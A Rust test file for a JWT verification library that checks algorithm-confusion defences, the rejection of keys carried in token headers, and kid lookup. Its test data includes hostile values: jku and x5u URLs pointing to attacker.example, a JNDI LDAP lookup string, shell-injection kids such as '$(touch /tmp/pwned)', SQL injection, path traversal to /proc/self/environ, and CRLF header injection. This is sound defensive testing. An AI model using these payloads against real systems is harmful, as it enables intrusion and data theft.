//! The key decides what it is used for, and the token can only agree (RFC 8725 §3.1 and §3.2): keys of one kind never
//! serve another, and nothing in a token is a key.

use base64::Engine as _;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE};
use countersign_token::{
    Algorithm, AlgorithmSet, HeaderScratch, KeySet, Origin, SignatureError, SigningKey, Unusable, UnverifiedToken,
    VerifyingKey,
};
use serde_json::{Value, json};

use crate::keys::{self, section};
use crate::{
    CLAIMS, Refusal, base64url, from_base64url, hmac_signer, jwk_set, key_set, published, signing_key,
    token_with_header, verify, with_signature,
};

/// Every spelling of a public key that somebody could take for a secret.
fn renderings(jwk: &Value, pems: &[&str]) -> Vec<Vec<u8>> {
    let mut texts = Vec::new();
    let mut octets = vec![Vec::new()];
    for pem in pems {
        let der = section(pem);
        octets.push(der.clone());
        texts.push((*pem).to_owned());
        texts.push(pem.lines().filter(|line| !line.starts_with('-')).collect());
        texts.push(BASE64_STANDARD.encode(&der));
        texts.push(BASE64_URL_SAFE.encode(&der));
        texts.push(der.iter().map(|byte| format!("{byte:02x}")).collect());
    }
    texts.push(jwk.to_string());
    texts.push(serde_json::to_string_pretty(jwk).unwrap());
    texts.push(json!({ "keys": [jwk] }).to_string());
    let bare: serde_json::Map<_, _> = ["crv", "e", "kty", "n", "x", "y"]
        .into_iter()
        .filter_map(|name| Some((name.to_owned(), jwk.get(name)?.clone())))
        .collect();
    texts.push(Value::Object(bare).to_string());
    for name in ["n", "x", "y"] {
        if let Some(member) = jwk.get(name).and_then(Value::as_str) {
            texts.push(member.to_owned());
            octets.push(from_base64url(member));
        }
    }
    if jwk["kty"] == "OKP" {
        // The format of OpenSSH, which PyJWT forgot (CVE-2022-29217).
        let mut ssh = b"\0\0\0\x0bssh-ed25519\0\0\0\x20".to_vec();
        ssh.extend(from_base64url(jwk["x"].as_str().unwrap()));
        texts.push(format!("ssh-ed25519 {}", BASE64_STANDARD.encode(&ssh)));
        octets.push(ssh);
    }
    octets.extend(texts.iter().flat_map(|text| with_other_white_space(text)));
    octets
}

/// A text as it may come out of a file or an environment variable; fast-jwt's check was defeated by white space in
/// front (CVE-2026-34950).
fn with_other_white_space(text: &str) -> [Vec<u8>; 7] {
    let bare = text.trim_end();
    [
        bare.to_owned(),
        format!("{bare}\n"),
        text.replace('\n', "\r\n"),
        format!(" {text}"),
        format!("\n\n{text}"),
        format!("\t{text}\0"),
        format!("\u{feff}{text}"),
    ]
    .map(String::into_bytes)
}

#[test]
fn no_rendering_of_a_public_key_is_a_secret() {
    for (algorithm, private, pems) in [
        (Algorithm::Rs256, keys::RSA_PRIVATE, &[keys::RSA, keys::RSA_PKCS1, keys::RSA_CERTIFICATE][..]),
        (Algorithm::Es256, keys::P256_PRIVATE, &[keys::P256, keys::P256_CERTIFICATE]),
        (Algorithm::Ed25519, keys::ED25519_PRIVATE, &[keys::ED25519, keys::ED25519_CERTIFICATE]),
    ] {
        let signer = SigningKey::from_pem(private, algorithm).unwrap().with_kid("k1");
        let jwk = signer.public_jwk().unwrap();
        let mut unbound = jwk.clone();
        unbound.as_object_mut().unwrap().remove("alg");
        let everything = Algorithm::ALL.into_iter().collect::<AlgorithmSet>();
        let sets = [
            key_set([jwk.clone()], Origin::Remote),
            key_set([unbound.clone()], Origin::Remote),
            key_set([unbound], Origin::Local),
            KeySet::new([VerifyingKey::from_pem(pems[0], everything).unwrap()]).unnamed_keys_match_any_kid(),
            KeySet::new([VerifyingKey::from_pem(pems[pems.len() - 1], everything).unwrap()]),
        ];
        let renderings = renderings(&jwk, pems);
        assert!(renderings.len() > 100, "{}", renderings.len());
        for secret in renderings {
            for hmac in [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512] {
                let attacker = hmac_signer(hmac, &secret);
                for header in [json!({ "alg": hmac.name() }), json!({ "alg": hmac.name(), "kid": "k1" })] {
                    let token = token_with_header(&header.to_string(), &attacker);
                    for set in &sets {
                        assert_eq!(verify(&token, set), Err(Refusal::NoKey));
                        assert_eq!(verify_with_every_key(&token, set), [Err(SignatureError::KeyNotEligible)]);
                    }
                }
            }
        }
    }
}

/// What each key says when the look-up by algorithm is skipped.
fn verify_with_every_key(token: &str, keys: &KeySet) -> Vec<Result<(), SignatureError>> {
    let mut scratch = HeaderScratch::new();
    let token = UnverifiedToken::parse(token, usize::MAX, &mut scratch).unwrap();
    keys.iter().map(|key| token.verify(key).map(drop)).collect()
}

/// The other way round: a secret never serves as a public key.
#[test]
fn a_secret_does_only_hmac() {
    let keys = KeySet::new([VerifyingKey::from_secret(&[7; 64], AlgorithmSet::HMAC).unwrap()]);
    for algorithm in AlgorithmSet::ASYMMETRIC.iter() {
        let token = signing_key(algorithm).sign(&json!({})).unwrap();
        assert_eq!(verify(&token, &keys), Err(Refusal::NoKey), "{algorithm}");
        assert_eq!(verify_with_every_key(&token, &keys), [Err(SignatureError::KeyNotEligible)], "{algorithm}");
    }
}

/// Every pair of algorithms: a token of one, whose header is changed to say another, against the key of the first.
#[test]
fn a_header_that_names_another_algorithm_finds_no_key() {
    for signed in Algorithm::ALL {
        let signer = signing_key(signed);
        let keys = KeySet::new([signer.verifying_key().unwrap()]);
        for named in Algorithm::ALL.into_iter().filter(|named| *named != signed) {
            let token = token_with_header(&json!({ "alg": named.name() }).to_string(), &signer);
            assert_eq!(verify(&token, &keys), Err(Refusal::NoKey), "{signed} as {named}");
        }
    }
}

#[test]
fn an_rsa_key_bound_to_one_algorithm_does_no_other() {
    let rsa = |algorithm| SigningKey::from_pem(keys::RSA_PRIVATE, algorithm).unwrap();
    for bound in AlgorithmSet::RSA.iter() {
        let keys = published(&rsa(bound));
        for used in AlgorithmSet::RSA.iter() {
            let verdict = verify(&rsa(used).sign(&json!({})).unwrap(), &keys);
            assert_eq!(verdict.is_ok(), used == bound, "{used} against {bound}: {verdict:?}");
        }
    }
}

/// A key without `alg` does all six, but a signature is still of one of them.
#[test]
fn an_rsa_signature_of_one_scheme_is_none_of_another() {
    let rsa = |algorithm| SigningKey::from_pem(keys::RSA_PRIVATE, algorithm).unwrap();
    let keys = KeySet::new([VerifyingKey::from_pem(keys::RSA, AlgorithmSet::RSA).unwrap()]);
    for named in AlgorithmSet::RSA.iter() {
        let header = json!({ "alg": named.name() }).to_string();
        for used in AlgorithmSet::RSA.iter() {
            let verdict = verify(&token_with_header(&header, &rsa(used)), &keys);
            let expected =
                if used == named { Ok(CLAIMS.into()) } else { Err(Refusal::Signature(SignatureError::Mismatch)) };
            assert_eq!(verdict, expected, "{used} as {named}");
        }
    }
}

#[test]
fn the_curve_decides_the_ecdsa_algorithm() {
    let p384 = SigningKey::from_pem(keys::P384_PRIVATE, Algorithm::Es384).unwrap();
    let token = token_with_header(r#"{"alg":"ES256"}"#, &p384);
    let jwk = p384.public_jwk().unwrap();
    assert_eq!(verify(&token, &key_set([jwk.clone()], Origin::Remote)), Err(Refusal::NoKey));
    for pem in [keys::P384, keys::P521] {
        let keys = KeySet::new([VerifyingKey::from_pem(pem, AlgorithmSet::ASYMMETRIC).unwrap()]);
        assert_eq!(verify(&token, &keys), Err(Refusal::NoKey));
    }
    // Nor can a key set say that it is otherwise.
    for (name, value, reason) in [
        ("alg", "ES256", Unusable::ContradictoryAlgorithm),
        ("crv", "P-256", Unusable::Key(countersign_token::KeyError::WrongLength)),
        ("kty", "OKP", Unusable::UnknownCurve),
        ("kty", "RSA", Unusable::Missing("n")),
        ("kty", "oct", Unusable::Symmetric),
    ] {
        let mut changed = jwk.clone();
        changed[name] = value.into();
        assert_eq!(jwk_set([changed], Origin::Remote).skipped()[0].reason, reason, "{name}: {value}");
    }
}

#[test]
fn a_key_for_another_use_verifies_nothing() {
    let signer = signing_key(Algorithm::Es256).with_kid("k1");
    let token = signer.sign(&json!({})).unwrap();
    for (name, value, reason) in [
        ("use", json!("enc"), Unusable::NotForSignatures),
        ("use", json!("SIG"), Unusable::NotForSignatures),
        ("use", json!(""), Unusable::NotForSignatures),
        ("key_ops", json!(["sign"]), Unusable::NotForVerifying),
        ("key_ops", json!(["encrypt", "wrapKey"]), Unusable::NotForVerifying),
        ("key_ops", json!([]), Unusable::NotForVerifying),
        ("alg", json!("ECDH-ES"), Unusable::UnknownAlgorithm),
        ("alg", json!("es256"), Unusable::UnknownAlgorithm),
    ] {
        let mut jwk = signer.public_jwk().unwrap();
        jwk[name] = value;
        let set = jwk_set([jwk.clone()], Origin::Remote);
        assert_eq!(set.skipped()[0].reason, reason, "{jwk}");
        assert_eq!(verify(&token, &set.into_key_set()), Err(Refusal::NoKey), "{jwk}");
    }
    let mut jwk = signer.public_jwk().unwrap();
    jwk["key_ops"] = json!(["verify"]);
    assert!(verify(&token, &key_set([jwk], Origin::Remote)).is_ok());
}

/// The header members that could name or carry a key: the attacker's own.
fn key_bearing_headers(attacker: &SigningKey) -> Vec<Value> {
    let jwk = attacker.public_jwk().unwrap();
    vec![
        json!({ "jwk": jwk }),
        json!({ "x5c": [BASE64_STANDARD.encode(section(keys::P256_CERTIFICATE))] }),
        json!({ "jku": "https://attacker.example/jwks.json" }),
        json!({ "x5u": "https://attacker.example/chain.pem" }),
        json!({ "x5t": base64url([1; 20]), "x5t#S256": base64url([1; 32]) }),
        json!({ "jwk": jwk, "jku": "file:///etc/passwd", "x5u": "gopher://127.0.0.1/" }),
        json!({ "iss": "https://attacker.example", "key": jwk, "keys": [jwk] }),
    ]
}

#[test]
fn a_key_that_the_token_brings_is_never_used() {
    // The certificate above holds the attacker's key, too.
    let attacker = SigningKey::from_pem(keys::P256_PRIVATE, Algorithm::Es256).unwrap();
    let issuer = signing_key(Algorithm::Es256).with_kid("k1");
    let keys = published(&issuer);
    for extra in key_bearing_headers(&attacker) {
        for (kid, refusal) in [
            (None, Refusal::Signature(SignatureError::Mismatch)),
            (Some("k1"), Refusal::Signature(SignatureError::Mismatch)),
            (Some("k2"), Refusal::NoKey),
        ] {
            let mut header = extra.clone();
            header["alg"] = "ES256".into();
            if let Some(kid) = kid {
                header["kid"] = kid.into();
            }
            let header = header.to_string();
            assert_eq!(verify(&token_with_header(&header, &attacker), &keys), Err(refusal), "{header}");
            if kid != Some("k2") {
                // They are ignored, not refused: an honest issuer may send them.
                assert_eq!(verify(&token_with_header(&header, &issuer), &keys).as_deref(), Ok(CLAIMS.as_bytes()));
            }
        }
    }
}

/// `kid` is a name and nothing else: no path, no query, no command, no pattern, no other spelling of the name.
#[test]
fn a_kid_is_only_looked_up() {
    let issuer = signing_key(Algorithm::Es256).with_kid("k1");
    let keys = published(&issuer);
    for kid in [
        "",
        "K1",
        " k1",
        "k1 ",
        "k1\0",
        "k1\r\nX-Injected: 1",
        "../../../../dev/null",
        "/proc/self/environ",
        "k1' OR '1'='1",
        "k1; sleep 10",
        "$(touch /tmp/pwned)",
        "${jndi:ldap://attacker.example/a}",
        "%6b1",
        "k*",
        "\u{ff4b}1",
        "k\u{200b}1",
        "__proto__",
    ] {
        let token = token_with_header(&json!({ "alg": "ES256", "kid": kid }).to_string(), &issuer);
        assert_eq!(verify(&token, &keys), Err(Refusal::NoKey), "{kid:?}");
    }
    // An escape is another way to write the same name.
    let token = token_with_header(r#"{"alg":"ES256","kid":"\u006b1"}"#, &issuer);
    assert!(verify(&token, &keys).is_ok());
}

/// A signature belongs to the header and the payload that it was made for.
#[test]
fn a_signature_cannot_be_moved_to_another_token() {
    for algorithm in Algorithm::ALL {
        let signer = signing_key(algorithm);
        let keys = KeySet::new([signer.verifying_key().unwrap()]);
        let (one, two) =
            (signer.sign(&json!({ "sub": "ada" })).unwrap(), signer.sign(&json!({ "sub": "eve" })).unwrap());
        let moved = with_signature(&two, &crate::signature_of(&one));
        assert_eq!(verify(&moved, &keys), Err(Refusal::Signature(SignatureError::Mismatch)), "{algorithm}");
    }
}
